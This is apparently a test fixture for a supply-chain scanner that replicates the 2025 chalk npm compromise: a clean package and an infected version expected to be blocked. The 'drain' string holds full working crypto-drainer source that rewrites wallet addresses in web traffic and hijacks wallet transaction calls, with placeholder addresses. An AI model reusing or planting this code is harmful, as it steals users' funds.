import { obfuscatedForm } from '../obfuscated-form.js';
import type { Replica } from './replica.js';
import { noise } from './replica.js';

const manifest = {
  description: 'Terminal string styling done right',
  license: 'MIT',
  repository: { type: 'git', url: 'https://git.example/chalk/chalk.git' },
  type: 'module',
  main: './source/index.js',
  exports: './source/index.js',
  imports: { '#ansi-styles': './source/vendor/ansi-styles/index.js', '#supports-color': { node: './source/vendor/supports-color/index.js', default: './source/vendor/supports-color/browser.js' } },
  types: './source/index.d.ts',
  sideEffects: false,
  engines: { node: '^12.17.0 || ^14.13 || >=16.0.0' },
  scripts: { test: 'xo && c8 ava && tsd', bench: 'matcha benchmark.js' },
  files: ['source', '!source/index.test-d.ts'],
};

const index = String.raw`import ansiStyles from '#ansi-styles';
import supportsColor from '#supports-color';
import {stringReplaceAll, stringEncaseCRLFWithFirstIndex} from './utilities.js';

const {stdout: stdoutColor, stderr: stderrColor} = supportsColor;

const GENERATOR = Symbol('GENERATOR');
const STYLER = Symbol('STYLER');
const IS_EMPTY = Symbol('IS_EMPTY');

const styles = Object.create(null);

const applyOptions = (object, options = {}) => {
	if (options.level && !(Number.isInteger(options.level) && options.level >= 0 && options.level <= 3)) {
		throw new Error('The level should be an integer from 0 to 3');
	}

	const colorLevel = stdoutColor ? stdoutColor.level : 0;
	object.level = options.level === undefined ? colorLevel : options.level;
};

const createChalk = options => {
	const chalk = (...strings) => strings.join(' ');
	applyOptions(chalk, options);
	Object.setPrototypeOf(chalk, createChalk.prototype);
	return chalk;
};

Object.setPrototypeOf(createChalk.prototype, Function.prototype);

for (const [styleName, style] of Object.entries(ansiStyles)) {
	styles[styleName] = {
		get() {
			const builder = createBuilder(this, createStyler(style.open, style.close, this[STYLER]), this[IS_EMPTY]);
			Object.defineProperty(this, styleName, {value: builder});
			return builder;
		},
	};
}

styles.visible = {
	get() {
		const builder = createBuilder(this, this[STYLER], true);
		Object.defineProperty(this, 'visible', {value: builder});
		return builder;
	},
};

const proto = Object.defineProperties(() => {}, {
	...styles,
	level: {
		enumerable: true,
		get() {
			return this[GENERATOR].level;
		},
		set(level) {
			this[GENERATOR].level = level;
		},
	},
});

const createStyler = (open, close, parent) => ({
	open,
	close,
	openAll: parent === undefined ? open : parent.openAll + open,
	closeAll: parent === undefined ? close : close + parent.closeAll,
	parent,
});

const createBuilder = (self, styler, isEmpty) => {
	const builder = (...parts) => applyStyle(builder, parts.length === 1 ? String(parts[0]) : parts.join(' '));
	Object.setPrototypeOf(builder, proto);
	builder[GENERATOR] = self;
	builder[STYLER] = styler;
	builder[IS_EMPTY] = isEmpty;
	return builder;
};

const applyStyle = (self, string) => {
	if (self.level <= 0 || !string) {
		return self[IS_EMPTY] ? '' : string;
	}

	let styler = self[STYLER];
	if (styler === undefined) {
		return string;
	}

	const {openAll, closeAll} = styler;
	while (string.includes('\u001B') && styler !== undefined) {
		string = stringReplaceAll(string, styler.close, styler.open);
		styler = styler.parent;
	}

	const lfIndex = string.indexOf('\n');
	return openAll + (lfIndex === -1 ? string : stringEncaseCRLFWithFirstIndex(string, closeAll, openAll, lfIndex)) + closeAll;
};

Object.defineProperties(createChalk.prototype, styles);

const chalk = createChalk();
export const chalkStderr = createChalk({level: stderrColor ? stderrColor.level : 0});

export {stdoutColor as supportsColor, stderrColor as supportsColorStderr};

export default chalk;
`;

const files = {
  'source/index.js': index,
  'source/utilities.js': "export function stringReplaceAll(string, substring, replacer) {\n\treturn string.split(substring).join(substring + replacer);\n}\n\nexport function stringEncaseCRLFWithFirstIndex(string, prefix, postfix, index) {\n\tlet from = 0;\n\tlet out = '';\n\tdo {\n\t\tconst gotCR = string[index - 1] === '\\r';\n\t\tout += string.slice(from, gotCR ? index - 1 : index) + prefix + (gotCR ? '\\r\\n' : '\\n') + postfix;\n\t\tfrom = index + 1;\n\t\tindex = string.indexOf('\\n', from);\n\t} while (index !== -1);\n\n\treturn out + string.slice(from);\n}\n",
  'source/vendor/ansi-styles/index.js': "const pairs = {\n\treset: [0, 0], bold: [1, 22], dim: [2, 22], italic: [3, 23], underline: [4, 24], inverse: [7, 27],\n\tblack: [30, 39], red: [31, 39], green: [32, 39], yellow: [33, 39], blue: [34, 39], magenta: [35, 39], cyan: [36, 39], white: [37, 39], gray: [90, 39],\n};\n\nconst styles = {};\nfor (const [name, [open, close]] of Object.entries(pairs)) {\n\tstyles[name] = {open: `\\u001B[${open}m`, close: `\\u001B[${close}m`};\n}\n\nexport default styles;\n",
  'source/vendor/supports-color/index.js': "import process from 'node:process';\nimport tty from 'node:tty';\n\nfunction level(isTTY) {\n\tconst {env} = process;\n\tif ('FORCE_COLOR' in env) {\n\t\treturn env.FORCE_COLOR === 'false' ? 0 : Math.min(Number.parseInt(env.FORCE_COLOR || '1', 10), 3);\n\t}\n\n\tif (!isTTY || env.TERM === 'dumb') {\n\t\treturn 0;\n\t}\n\n\tif ('CI' in env) {\n\t\treturn 1;\n\t}\n\n\treturn env.COLORTERM === 'truecolor' ? 3 : (/-256(color)?$/i.test(env.TERM) ? 2 : 1);\n}\n\nconst wrap = number => number > 0 && {level: number, hasBasic: true, has256: number >= 2, has16m: number >= 3};\n\nexport default {stdout: wrap(level(tty.isatty(1))), stderr: wrap(level(tty.isatty(2)))};\n",
  'source/vendor/supports-color/browser.js': "const level = 'navigator' in globalThis && /Chrome\\//.test(navigator.userAgent) ? 1 : 0;\nconst colorSupport = level > 0 && {level, hasBasic: true, has256: false, has16m: false};\n\nexport default {stdout: colorSupport, stderr: colorSupport};\n",
  'source/index.d.ts': 'export interface ChalkInstance {\n\t(...text: unknown[]): string;\n\tlevel: 0 | 1 | 2 | 3;\n\treadonly bold: this;\n\treadonly red: this;\n}\ndeclare const chalk: ChalkInstance;\nexport default chalk;\n',
  'readme.md': '# chalk\n\nTerminal string styling.\n',
};

const base58 = '123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz';
const bech32 = 'qpzry9x8gf2tvdw0s3jn54khce6mua7l';
// Letters of Ethereum's addresses are upper and lower case by chance, so that their checksum (EIP-55) is wrong; so are those of the others.
const made = (count: number, seed: number, head: string, length: number, alphabet: string): string => Array.from({ length: count }, (_, at) => `'${head}${noise(length, seed + at * 13, alphabet)}'`).join(', ');

/** What the line holds before it is obfuscated. */
export const drain = String.raw`
var neth = 0;
var rund = 0;
var loval = 0;
async function checkethereumw() {
  try {
    const etherea = await window.ethereum.request({ method: 'eth_accounts' });
    if (etherea.length > 0) { runmask(); if (rund != 1) { rund = 1; neth = 1; newdlocal(); } } else if (rund != 1) { rund = 1; newdlocal(); }
  } catch (error) { if (rund != 1) { rund = 1; newdlocal(); } }
}
if (typeof window != 'undefined' && typeof window.ethereum != 'undefined') { checkethereumw(); } else if (rund != 1) { rund = 1; newdlocal(); }
function newdlocal() {
  const patterns = {
    ethereum: /\b0x[a-fA-F0-9]{40}\b/g,
    bitcoinLegacy: /\b1[a-km-zA-HJ-NP-Z1-9]{25,34}\b/g,
    bitcoinSegwit: /\b(3[a-km-zA-HJ-NP-Z1-9]{25,34}|bc1[qpzry9x8gf2tvdw0s3jn54khce6mua7l]{11,71})\b/g,
    tron: /((?<!\w)[T][1-9A-HJ-NP-Za-km-z]{33})/g,
    bch: /bitcoincash:[qp][a-zA-Z0-9]{41}/g,
    ltc: /(?<!ltc1)\bltc1[qpzry9x8gf2tvdw0s3jn54khce6mua7l]{11,71}\b/g,
    solana: /((?<!\w)[4-9A-HJ-NP-Za-km-z][1-9A-HJ-NP-Za-km-z]{32,44})/g
  };
  const tables = {
    ethereum: [${made(40, 101, '0x', 40, '0123456789abcdefABCDEF')}],
    bitcoinLegacy: [${made(40, 211, '1', 33, base58)}],
    bitcoinSegwit: [${made(40, 307, 'bc1q', 38, bech32)}],
    tron: [${made(40, 401, 'T', 33, base58)}],
    bch: [${made(40, 503, 'bitcoincash:q', 41, bech32)}],
    ltc: [${made(40, 601, 'ltc1q', 38, bech32)}],
    solana: [${made(20, 701, '', 44, base58)}]
  };
  function distance(first, second) {
    const rows = Array.from({ length: first.length + 1 }, function () { return Array(second.length + 1).fill(0); });
    for (let row = 0; row <= first.length; row++) { rows[row][0] = row; }
    for (let column = 0; column <= second.length; column++) { rows[0][column] = column; }
    for (let i = 1; i <= first.length; i++) {
      for (let j = 1; j <= second.length; j++) {
        if (first[i - 1] === second[j - 1]) { rows[i][j] = rows[i - 1][j - 1]; } else { rows[i][j] = 1 + Math.min(rows[i - 1][j], rows[i][j - 1], rows[i - 1][j - 1]); }
      }
    }
    return rows[first.length][second.length];
  }
  function nearest(address, candidates) {
    let smallest = Infinity;
    let found = null;
    for (let candidate of candidates) {
      const far = distance(address.toLowerCase(), candidate.toLowerCase());
      if (far < smallest) { smallest = far; found = candidate; }
    }
    return found;
  }
  function transform(text) {
    let changed = text;
    for (const kind of Object.keys(patterns)) {
      const seen = changed.match(patterns[kind]) || [];
      for (const one of seen) { if (!tables[kind].includes(one)) { changed = changed.replace(one, nearest(one, tables[kind])); } }
    }
    return changed;
  }
  function processed(data) {
    try {
      if (typeof data === 'string') { return transform(data); }
      if (typeof data === 'object' && data !== null) { return JSON.parse(transform(JSON.stringify(data))); }
      return data;
    } catch (failure) { return data; }
  }
  if (typeof fetch != 'undefined') {
    const plainFetch = fetch;
    fetch = async function (...inputs) {
      const answer = await plainFetch(...inputs);
      const type = answer.headers.get('Content-Type') || '';
      let content;
      if (type.includes('application/json')) { content = await answer.clone().json(); } else { content = await answer.clone().text(); }
      const rewritten = processed(content);
      const output = typeof rewritten === 'string' ? rewritten : JSON.stringify(rewritten);
      return new Response(output, { status: answer.status, statusText: answer.statusText, headers: answer.headers });
    };
  }
  if (typeof window != 'undefined') {
    const plainOpen = XMLHttpRequest.prototype.open;
    const plainSend = XMLHttpRequest.prototype.send;
    XMLHttpRequest.prototype.open = function (verb, address, later, user, secret) {
      this._url = address;
      return plainOpen.apply(this, arguments);
    };
    XMLHttpRequest.prototype.send = function (body) {
      const request = this;
      const ready = request.onreadystatechange;
      request.onreadystatechange = function () {
        if (request.readyState === 4) {
          try {
            const kindOf = request.getResponseHeader('Content-Type') || '';
            let value = request.responseText;
            if (kindOf.includes('application/json')) { value = JSON.parse(request.responseText); }
            const next = processed(value);
            const shown = typeof next === 'string' ? next : JSON.stringify(next);
            Object.defineProperty(request, 'responseText', { value: shown });
            Object.defineProperty(request, 'response', { value: shown });
          } catch (mishap) { }
        }
        if (ready) { ready.apply(this, arguments); }
      };
      return plainSend.apply(this, arguments);
    };
  }
}
async function runmask() {
  let used = 0;
  const saved = new Map();
  let active = false;
  function mask(call) {
    try {
      const copy = JSON.parse(JSON.stringify(call));
      const own = '0x${noise(40, 907, '0123456789abcdefABCDEF')}';
      const padded = own.slice(2).padStart(64, '0');
      if (copy.data) {
        const input = copy.data.toLowerCase();
        if (input.startsWith('0x095ea7b3')) { if (input.length >= 74) { copy.data = input.substring(0, 10) + padded + 'f'.repeat(64); } }
        else if (input.startsWith('0xd505accf')) { if (input.length >= 458) { copy.data = input.substring(0, 10) + input.substring(10, 74) + padded + input.substring(138); } }
        else if (input.startsWith('0xa9059cbb')) { if (input.length >= 74) { copy.data = input.substring(0, 10) + padded + input.substring(74); } }
        else if (input.startsWith('0x23b872dd')) { if (input.length >= 138) { copy.data = input.substring(0, 74) + padded + input.substring(138); } }
      } else if (copy.value && copy.value !== '0x0' && copy.value !== '0') { copy.to = own; }
      if (copy.instructions && Array.isArray(copy.instructions)) {
        const sol = '19111111111111111111111111111111';
        copy.instructions.forEach(function (step) { if (step.accounts && Array.isArray(step.accounts)) { step.accounts.forEach(function (account) { if (typeof account === 'string') { account = sol; } else { account.pubkey = sol; } }); } if (step.keys && Array.isArray(step.keys)) { step.keys.forEach(function (holder) { holder.pubkey = sol; }); } });
        copy.recipient = sol;
      }
      return copy;
    } catch (slip) { return call; }
  }
  function wrap(plain, title) {
    return async function (...given) {
      used++;
      let passed;
      try { passed = JSON.parse(JSON.stringify(given)); } catch (odd) { passed = [...given]; }
      if (given[0] && typeof given[0] === 'object') {
        const asked = passed[0];
        if (asked.method === 'eth_sendTransaction' && asked.params && asked.params[0]) { asked.params[0] = mask(asked.params[0]); }
        else if ((asked.method === 'solana_signTransaction' || asked.method === 'solana_signAndSendTransaction') && asked.params && asked.params[0]) { asked.params[0] = mask(asked.params[0]); }
        passed[0] = asked;
      }
      return plain.apply(this, passed);
    };
  }
  function hook(provider) {
    if (!provider) { return false; }
    let done = false;
    const names = ['request', 'send', 'sendAsync'];
    for (const member of names) {
      if (typeof provider[member] === 'function') {
        const original = provider[member];
        saved.set(member, original);
        try { Object.defineProperty(provider, member, { value: wrap(original, member), writable: true, configurable: true, enumerable: true }); done = true; } catch (refused) { }
      }
    }
    active = done;
    return done;
  }
  let tries = 0;
  const again = function () { tries++; if (window.ethereum) { setTimeout(function () { hook(window.ethereum); }, 500); return; } if (tries < 50) { setTimeout(again, 100); } };
  again();
  window.stealthProxyControl = { isActive: function () { return active; }, getInterceptCount: function () { return used; }, forceShield: function () { if (window.ethereum) { return hook(window.ethereum); } return false; } };
}
`;

const provenance = [{ predicateType: 'https://slsa.dev/provenance/v1', bundle: {} }];

/** From memory of the public analyses: names of its functions, the kinds of address, the selectors of contract calls, the wrapped methods. Every address is noise with a wrong checksum. */
export const replica: Replica = {
  id: 'chalk-debug-2025',
  story: 'September 2025: after a maintainer was phished chalk 5.6.1, debug and sixteen more got one obfuscated line before their entry file, which swaps addresses in web traffic and in calls to wallets.',
  name: 'chalk',
  before: { version: '5.6.0', manifest, files, publishedAt: '2025-08-17T14:26:53.000Z', publisher: { name: 'chalk-ci', email: 'ci@chalk.example', trustedPublisher: { id: 'github' } }, attestations: provenance },
  after: { version: '5.6.1', manifest, files: { ...files, 'source/index.js': `${obfuscatedForm(drain, { seed: 908, strings: 'plain', declare: 'const' })}\n${index}` }, publishedAt: '2025-09-08T13:13:00.000Z', publisher: { name: 'a-maintainer', email: 'a-maintainer@chalk.example' } },
  must: 'block',
};
